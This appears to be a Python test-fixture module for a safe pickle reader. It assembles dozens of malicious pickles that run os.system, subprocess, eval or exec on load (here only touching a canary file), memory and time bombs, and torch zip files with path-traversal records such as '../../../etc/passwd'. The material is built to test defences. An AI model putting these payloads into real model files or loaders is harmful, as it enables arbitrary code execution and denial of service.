"""Malicious pickles for the tests of the reader: every way known to us to run code, and ways to eat memory or time.

A canary is a file that the payload would create. Payloads are plain pickle bytes; `CONTAINERS` dresses them as the
files that people exchange.
"""
# ruff: noqa: E501 (a table: one attack, one entry)

import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

STOP = b"."


def text(value: str) -> bytes:
    """A BINUNICODE opcode."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    """A STACK_GLOBAL for any two strings."""
    return text(module) + text(attribute) + b"\x93"


class Call:
    """Pickles as a call of `function(*args)`, and what may follow it in a __reduce__ tuple."""

    def __init__(self, function: Any, *args: Any, rest: tuple[Any, ...] = ()) -> None:
        self.parts = (function, args, *rest)

    def __reduce__(self) -> tuple[Any, ...]:
        return self.parts


def executing(canary: str) -> dict[str, bytes]:
    """Payloads that create `canary` when read with the standard library."""
    command = f"touch {canary}"
    code = f"open({canary!r}, 'w').close()"
    touch = text(command) + b"\x85R"  # TUPLE1 REDUCE
    touch_code = text(code) + b"\x85R"
    plain_line = command.encode()
    payloads = {
        "protocol-0-reduce": b"cos\nsystem\n(S'" + plain_line + b"'\ntR.",
        "protocol-1-reduce": b"cposix\nsystem\nq\x00(U" + bytes([len(command)]) + plain_line + b"tR.",
        "inst": b"(S'" + plain_line + b"'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\n" + text(command) + b"o.",
        "newobj": b"\x80\x02" + name("os", "system") + text(command) + b"\x85\x81.",
        "newobj-ex": b"\x80\x04" + name("os", "system") + text(command) + b"\x85}\x92.",
        "newobj-subprocess": b"\x80\x02csubprocess\nPopen\n" + text(command) + b"\x85\x81.",
        "build-setstate": b"\x80\x02" + name("os", "system") + b"}" + text("__setstate__") + name("os", "system") + b"s"
        b"b" + text(command) + b"b.",
        "stack-global": b"\x80\x04" + name("os", "system") + touch + STOP,
        "stack-global-memo": b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x94" + b"h\x00h\x01\x93" + touch + STOP,
        "dotted-name": b"\x80\x04" + name("os", "path.os.system") + touch + STOP,
        "dotted-through-torch": b"\x80\x04" + name("torch._utils", "warnings.sys.modules") + STOP,
        "dup-twice": b"\x80\x04" + name("os", "system") + b"2" + touch + b"0" + touch + STOP,
        "executed-then-popped": b"\x80\x04" + name("os", "system") + touch + b"0N.",
        "executed-without-stop": b"\x80\x04" + name("os", "system") + touch,
        "executed-then-garbage": b"\x80\x04" + name("os", "system") + touch + b"\xff\xff\xff",
        "eval": b"\x80\x04" + name("builtins", "eval") + touch_code + STOP,
        "exec": b"\x80\x04" + name("builtins", "exec") + touch_code + STOP,
        "python-2-eval": b"c__builtin__\neval\n" + touch_code + STOP,
        "import": b"\x80\x04" + name("builtins", "__import__") + text("antigravity") + b"\x85R.",
        "compile-exec": b"\x80\x04" + name("builtins", "exec") + name("builtins", "compile") + text(code) + text("x")
        + text("exec") + b"\x87R\x85R.",
        "getattr-chain": b"\x80\x04" + name("builtins", "getattr") + name("builtins", "__import__") + text("os") + b"\x85R"
        + text("system") + b"\x86R" + touch + STOP,
        "map-system": b"\x80\x04" + name("builtins", "list") + name("builtins", "map") + name("os", "system") + b"](" +
        text(command) + b"e\x86R\x85R.",
        "apply": b"\x80\x02" + name("functools", "partial") + name("os", "system") + text(command) + b"\x86R)R.",
        "reduce-tool": b"\x80\x02" + name("functools", "reduce") + name("os", "system") + b"](" + text(command) + b"K\x00e\x86R.",
        "attrgetter": b"\x80\x04" + name("operator", "attrgetter") + text("system") + b"\x85R" + name("builtins", "__import__")
        + text("os") + b"\x85R\x85R" + touch + STOP,
        "methodcaller": b"\x80\x04" + name("operator", "methodcaller") + text("system") + text(command) + b"\x86R"
        + name("builtins", "__import__") + text("os") + b"\x85R\x85R.",
        "runpy": b"\x80\x04" + name("runpy", "_run_code") + name("builtins", "compile") + text(code) + text("x") + text("exec")
        + b"\x87R}\x86R.",
        "timeit": b"\x80\x04" + name("timeit", "timeit") + touch_code + STOP,
        "pdb": b"\x80\x04" + name("pdb", "run") + touch_code + STOP,
        "cprofile": b"\x80\x04" + name("cProfile", "run") + touch_code + STOP,
        "code-interpreter": b"\x80\x04" + name("code", "InteractiveInterpreter.runcode") + touch_code + STOP,
        "pydoc-pipe": b"\x80\x04" + name("pydoc", "pipepager") + text("x") + text(command) + b"\x86R.",
        "idlelib": b"\x80\x04" + name("idlelib.run", "Executive.runcode") + touch_code + STOP,
        "logging-config": b"\x80\x04" + name("logging.config", "_resolve") + text("os.system") + b"\x85R" + touch + STOP,
        "pip": b"\x80\x04" + name("pip", "main") + b"](" + text("install") + text("/nowhere") + b"e\x85R.",
        "ctypes": b"\x80\x04" + name("ctypes", "CDLL") + text("libc.so.6") + b"\x85R.",
        "open-write": b"\x80\x04" + name("builtins", "open") + text(canary) + text("w") + b"\x86R.",
        "io-open": b"\x80\x04" + name("_io", "FileIO") + text(canary) + text("w") + b"\x86R.",
        "pathlib-write": b"\x80\x04" + name("pathlib", "Path.write_text") + name("pathlib", "Path") + text(canary) + b"\x85R"
        + text("x") + b"\x86R.",
        "shutil": b"\x80\x04" + name("shutil", "copyfile") + text("/etc/hostname") + text(canary) + b"\x86R.",
        "numpy-save": b"\x80\x04" + name("numpy", "savetxt") + text(canary) + b"](K\x01e\x86R.",
        "numpy-load": b"\x80\x04" + name("numpy", "load") + text(canary) + b"\x85R.",
        "numpy-runstring": b"\x80\x04" + name("numpy.testing._private.utils", "runstring") + text(code) + b"}\x86R.",
        "torch-load": b"\x80\x04" + name("torch", "load") + text(canary) + b"\x85R.",
        "torch-hub": b"\x80\x04" + name("torch.hub", "load") + text("x/y") + text("z") + b"\x86R.",
        "torch-save": b"\x80\x04" + name("torch", "save") + b"N" + text(canary) + b"\x86R.",
        "torch-inductor": b"\x80\x04" + name("torch._inductor.codecache", "compile_file") + touch_code + STOP,
        "joblib-load": b"\x80\x04" + name("joblib", "load") + text(canary) + b"\x85R.",
        "extension-1": b"\x80\x02\x82\x01.",
        "extension-2": b"\x80\x02\x83\x01\x00.",
        "extension-4": b"\x80\x02\x84\x01\x00\x00\x00.",
        "copyreg-extension": b"\x80\x04" + name("copyreg", "add_extension") + text("os") + text("system") + b"K\x01\x87R\x82\x01"
        + touch + STOP,
        "copyreg-reconstructor": b"ccopy_reg\n_reconstructor\n" + name("os", "system") + name("builtins", "str") +
        text(command) + b"\x87R.",
        "persistent-text": b"P" + plain_line + b"\n.",
        "persistent-binary": b"\x80\x02" + text(command) + b"Q.",
        "persistent-tuple": b"\x80\x02(" + text("module") + name("os", "system") + text("os") + text(code) + b"tQ" + touch + STOP,
        "in-dict-subclass": b"\x80\x02" + name("collections", "OrderedDict") + b")R" + text("a") + name("os", "system") + touch
        + b"s.",
        "dict-subclass-build": b"\x80\x02" + name("collections", "OrderedDict") + b")R}" + text("__class__") +
        name("os", "system") + touch + b"sb.",
        "defaultdict-factory": b"\x80\x02" + name("collections", "defaultdict") + name("os", "system") + b"\x85R" + text("a") + b"Ns.",
        "in-rebuild-parameter": b"\x80\x02" + name("torch._utils", "_rebuild_parameter") + name("os", "system") + touch +
        b"\x88N\x87R.",
        "in-rebuild-from-type": b"\x80\x02" + name("torch._tensor", "_rebuild_from_type_v2") + b"(" + name("os", "system") +
        name("os", "system") + text(command) + b"\x85}tR.",
        "as-storage-class": b"\x80\x02(" + text("storage") + name("os", "system") + text("0") + text("cpu") + b"K\x01tQ.",
        "in-numpy-scalar": b"\x80\x02" + name("numpy.core.multiarray", "scalar") + name("os", "system") + touch + b"C\x00\x86R.",
        "in-numpy-dtype": b"\x80\x02" + name("numpy", "dtype") + name("os", "system") + touch + b"\x89\x88\x87R.",
        "in-object-array": pickle.dumps({"x": Call(__import__("os").system, command)}),
        "as-set-item": b"\x80\x04\x8f(" + name("os", "system") + touch + b"\x90.",
        "as-key": b"\x80\x04}(" + name("os", "system") + touch + b"Nu.",
        "unicode-name": b"\x80\x04" + name("os\u2024", "system") + touch + STOP,
        "space-in-module": b"c torch._utils _rebuild_tensor_v2\nsystem\n" + touch + STOP,
    }  # fmt: skip
    payloads["load-from-bytes"] = (
        b"\x80\x02" + name("torch.storage", "_load_from_bytes") + b"B" + struct.pack("<I", len(payloads["stack-global"]))
        + payloads["stack-global"] + b"\x85R."
    )  # fmt: skip
    return payloads


@cache
def bombs() -> dict[str, bytes]:
    """Small files that ask for much memory, time or stack."""
    shared_tuple = b"\x80\x04)\x94" + b"h\x00\x86\x94" * 0  # the empty tuple as memo 0
    doubled = b"".join(b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86\x94" for i in range(100))
    numpy_array = b"\x80\x02" + name("numpy.core.multiarray", "_reconstruct") + name("numpy", "ndarray") + b"K\x00\x85"
    numpy_array += b"C\x01b\x87R"
    float_type = (
        name("numpy", "dtype")
        + text("f8")
        + b"\x89\x88\x87R(K\x03"
        + text("<")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff"
    )
    float_type += b"K\x00tb"  # fmt: skip
    huge = b"\x8a\x07\x00\x00\x00\x00\x00\x00\x01"  # LONG1: 2**48
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
    long_text = "x" * 4_000_000
    return {
        "long4-count": b"\x80\x02\x8b\xff\xff\xff\x7f.",
        "long4-negative": b"\x80\x02\x8b\xff\xff\xff\xff.",
        "binbytes8-count": b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x7f.",
        "binunicode8-count": b"\x80\x04\x8d\xff\xff\xff\xff\xff\xff\xff\x7f.",
        "bytearray8-count": b"\x80\x05\x96\x00\x00\x00\x00\x00\x00\x00\x40.",
        "frame-count": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7fN.",
        "memo-index": b"\x80\x02Nr\xff\xff\xff\xff.",
        "decimal-digits": b"L" + b"9" * 1_000_000 + b"L\n.",
        "deep-lists": b"\x80\x02" + b"]" * 30_000 + b"a" * 29_999 + b".",
        "deep-tuples": b"\x80\x02N" + b"\x85" * 30_000 + b".",
        "deep-dicts": b"\x80\x02" + b"}K\x01" * 30_000 + b"N" + b"s" * 30_000 + b".",
        "deep-stubs": b"\x80\x02" + b"cos\nsystem\n" * 30_000 + b")R" + b"\x85R" * 29_999 + b".",
        "deep-marks": b"(" * 100_000,
        "list-in-itself": b"\x80\x04]\x94h\x00a.",
        "dict-in-itself": b"\x80\x04}\x94K\x01h\x00s.",
        "doubled-tuples": shared_tuple + doubled + b".",
        "doubled-tuple-as-key": b"\x80\x04}" + shared_tuple[2:] + doubled + b"Ns.",
        "doubled-tuple-in-set": b"\x80\x04\x8f(" + shared_tuple[2:] + doubled + b"\x90.",
        "colliding-integers": b"\x80\x02}(" + b"".join(_long(i * (2**61 - 1)) + b"N" for i in range(1, 10_000)) + b"u.",
        "encode-again-and-again": b"\x80\x02" + text(long_text) + b"q\x00](" + (
            name("_codecs", "encode") + b"h\x00" + text("latin1") + b"\x86R") * 2000 + b"e.",
        "set-again-and-again": b"\x80\x02](" + b"".join(b"M" + struct.pack("<H", i) for i in range(60_000)) + b"eq\x00]("
        + (name("builtins", "set") + b"h\x00\x85R") * 5000 + b"e.",
        "array-beyond-its-bytes": numpy_array + b"(K\x01" + huge + b"\x85" + float_type + b"\x89C\x08abcdefghtb.",
        "array-of-negative-size": numpy_array + b"(K\x01J\xff\xff\xff\xff\x85" + float_type + b"\x89C\x08abcdefghtb.",
        "joblib-array-size": b"\x80\x02" + wrapper + text("dtype") + float_type + text("shape") + huge + b"\x85" + text("order")
        + text("C") + b"ub.",
        "joblib-array-without-state": b"\x80\x02" + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81.",
        "string-dtype-width": numpy_array + b"(K\x01K\x01\x85" + name("numpy", "dtype") + text("S999999999") + b"\x89\x88\x87R(K\x03"
        + text("|") + b"NNNK\x01K\x01K\x00tb\x89C\x00tb.",
        "bytes-dtype-of-no-width": numpy_array + b"(K\x01" + huge + b"\x85" + name("numpy", "dtype") + text("S0")
        + b"\x89\x88\x87R(K\x03" + text("|") + b"NNNK\x00K\x01K\x00tb\x89C\x00tb.",
        "zlib-of-zeros": zlib.compress(b"\x80\x04\x8e" + struct.pack("<Q", 1 << 28) + bytes(1 << 28) + b".", 9),
    }  # fmt: skip


def _long(value: int) -> bytes:
    raw = value.to_bytes(12, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def torch_zip(
    payload: bytes, records: dict[str, bytes] | None = None, *, compression: int = zipfile.ZIP_STORED
) -> bytes:
    """A torch file around a pickle; `records` replaces the usual storage 0."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("archive/data.pkl", payload)
        archive.writestr("archive/byteorder", b"little")
        for key, value in (records if records is not None else {"archive/data/0": bytes(64)}).items():
            archive.writestr(key, value)
    return buffer.getvalue()


def torch_stream(payload: bytes) -> bytes:
    """A torch file of before 1.6 around a pickle."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True, "protocol_version": 1001, "type_sizes": {}}]
    return b"".join(pickle.dumps(part, 2) for part in head) + payload + pickle.dumps([], 2)


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "plain": lambda payload: payload,
    "torch-zip": torch_zip,
    "torch-stream": torch_stream,
    "torch-stream-head": lambda payload: payload + torch_stream(payload),
    "joblib-zlib": zlib.compress,
}


def tensor(
    *, storage: str = "FloatStorage", key: str = "0", count: int = 16, offset: int = 0,
    size: tuple[int, ...] = (4, 4), stride: tuple[int, ...] = (4, 1),
) -> bytes:  # fmt: skip
    """The pickle of one tensor over storage 0 (64 bytes), with any of its numbers changed."""
    pid = b"(" + text("storage") + name("torch", storage) + text(key) + text("cpu") + _long(count) + b"tQ"

    def numbers(values: tuple[int, ...]) -> bytes:
        return b"(" + b"".join(map(_long, values)) + b"t"

    args = (
        b"("
        + pid
        + _long(offset)
        + numbers(size)
        + numbers(stride)
        + b"\x89"
        + name("collections", "OrderedDict")
        + b")Rt"
    )
    return b"\x80\x02" + name("torch._utils", "_rebuild_tensor_v2") + args + b"R."


def broken_zips() -> dict[str, bytes]:
    """Torch files whose tensors or records lie."""
    good = tensor()
    duplicate = io.BytesIO(torch_zip(good))
    with zipfile.ZipFile(duplicate, "a") as archive:
        archive.writestr("archive/data/1", bytes(8))
    one_name = duplicate.getvalue().replace(b"archive/data/1", b"archive/data/0")
    flipped = bytearray(torch_zip(good, {"archive/data/0": bytes(range(64))}))
    flipped[flipped.find(bytes(range(64))) + 5] ^= 4
    size_lie = torch_zip(good).replace(struct.pack("<II", 64, 64), struct.pack("<II", 1 << 30, 1 << 30))
    return {
        "numel-beyond-record": torch_zip(tensor(count=1 << 40)),
        "numel-below-record": torch_zip(tensor(count=3)),
        "negative-numel": torch_zip(tensor(count=-16)),
        "offset-beyond": torch_zip(tensor(offset=1)),
        "negative-offset": torch_zip(tensor(offset=-4)),
        "huge-offset": torch_zip(tensor(offset=1 << 62)),
        "size-beyond": torch_zip(tensor(size=(4, 5))),
        "negative-size": torch_zip(tensor(size=(-4, -4))),
        "huge-size": torch_zip(tensor(size=(1 << 62, 4))),
        "stride-beyond": torch_zip(tensor(stride=(5, 1))),
        "negative-stride": torch_zip(tensor(stride=(-4, 1), offset=15)),
        "overflowing-strides": torch_zip(tensor(size=(2, 2), stride=(1 << 63, 1 << 63))),
        "expanded-to-terabytes": torch_zip(tensor(size=(1 << 20, 1 << 20), stride=(0, 0))),
        "strides-missing": torch_zip(tensor(stride=(1,))),
        "many-axes": torch_zip(tensor(size=(1,) * 100, stride=(1,) * 100)),
        "unknown-storage": torch_zip(tensor(storage="QInt8Storage")),
        "evil-storage": torch_zip(tensor(storage="os.system")),
        "truth-values": torch_zip(tensor(storage="BoolStorage", count=64), {"archive/data/0": b"\x02" * 64}),
        "missing-record": torch_zip(tensor(key="7")),
        "path-as-key": torch_zip(tensor(key="../../../etc/passwd")),
        "record-escapes": torch_zip(good, {"archive/data/0": bytes(64), "archive/../../x": b"x"}),
        "record-absolute": torch_zip(good, {"archive/data/0": bytes(64), "/etc/x": b"x"}),
        "record-backslash": torch_zip(good, {"archive/data/0": bytes(64), "archive\\..\\x": b"x"}),
        "second-folder": torch_zip(good, {"archive/data/0": bytes(64), "other/data.pkl": good}),
        "duplicate-record": one_name,
        "deflated": torch_zip(good, compression=zipfile.ZIP_DEFLATED),
        "crc": bytes(flipped),
        "stated-size": size_lie,
        "cut": torch_zip(good)[:-30],
        "cut-in-half": torch_zip(good)[:100],
        "big-endian": torch_zip(good).replace(b"little", b"big---"),
        "data-behind-pickle": torch_zip(good + b"cos\nsystem\n."),
        "no-pickle": torch_zip(good).replace(b"data.pkl", b"data.pkk"),
        "empty-pickle": torch_zip(b""),
    }
